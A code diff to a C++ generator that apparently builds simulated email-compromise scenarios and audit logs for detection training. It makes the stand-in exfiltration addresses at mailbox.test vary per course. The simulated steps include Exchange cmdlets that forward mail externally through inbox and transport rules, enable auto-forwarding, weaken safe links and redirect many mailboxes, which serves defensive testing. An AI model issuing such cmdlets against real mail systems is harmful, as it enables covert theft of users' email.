@@ -205,7 +205,7 @@ void device_code(Course& c) {
 
   time += 30 * kMinute;
   c.step("forward by a rule", time, in_audit({"rule_external_forward", "chain_aitm_to_rule"}));
-  Cmdlet rule = stage.inbox_rule(c.victim, time, attacker, session, "Sync", {{"ForwardTo", "collector@mailbox.test"}});
+  Cmdlet rule = stage.inbox_rule(c.victim, time, attacker, session, "Sync", {{"ForwardTo", "collector" + std::to_string(c.servers) + "@mailbox.test"}});
   rule.app = s.app.id;
   stage.logs.cmdlet(rule);
 }
@@ -346,6 +346,7 @@ void admin_takeover(Course& c) {
   const Spot from = c.server(0);
   Moment time = c.begins;
   const bool much = c.variant == Variant::kAbove;
+  const std::string vault = "vault" + std::to_string(c.servers) + "@mailbox.test";
 
   c.step("administrator's sign-in through the proxy", time,
          in_either({"aitm_officehome_triad"}) + (much ? in_either({"aitm_kit_fingerprint"}) : Claims{}));
@@ -396,7 +397,7 @@ void admin_takeover(Course& c) {
 
   if (much) {
     c.step("mail-flow rule copies mail outside", time, in_audit({"transport_rule_exfil"}));
-    cmdlet("New-TransportRule", "", {{"Name", "Archive copy"}, {"BlindCopyTo", "vault@mailbox.test"}});
+    cmdlet("New-TransportRule", "", {{"Name", "Archive copy"}, {"BlindCopyTo", vault}});
     c.step("automatic forwarding allowed", time, in_audit({"autoforward_policy_opened"}));
     cmdlet("Set-HostedOutboundSpamFilterPolicy", "Default", {{"Identity", "Default"}, {"AutoForwardingMode", "On"}});
     c.step("safe links removed", time, in_audit({"mail_protection_weakened"}));
@@ -465,7 +466,7 @@ void admin_takeover(Course& c) {
   for (int i = 0; i < mailboxes; ++i) {
     const Person& box = stage.people.someone(i % 3 == 0 ? Role::kFinance : Role::kStaff);
     cmdlet("Set-Mailbox", box.mailbox_id,
-           {{"Identity", box.upn}, {"ForwardingSmtpAddress", "smtp:vault@mailbox.test"}, {"DeliverToMailboxAndForward", "True"}});
+           {{"Identity", box.upn}, {"ForwardingSmtpAddress", "smtp:" + vault}, {"DeliverToMailboxAndForward", "True"}});
     time -= 90 - 40;
   }
 }
@@ -511,7 +512,7 @@ void remediation_incomplete(Course& c) {
   c.step("stolen session forwards mail", time, in_audit({"rule_external_forward"}));
   c.read_mail(time, attacker, session, 4);
   stage.logs.cmdlet(stage.inbox_rule(c.victim, time + 5 * kMinute, attacker, session, "Copy to archive",
-                                     {{"ForwardTo", "archive@mailbox.test"}}));
+                                     {{"ForwardTo", "archive" + std::to_string(c.servers) + "@mailbox.test"}}));
 
   const Person& admin = stage.people.someone(Role::kAdmin);
   const Moment reset = time + 3 * kHour;
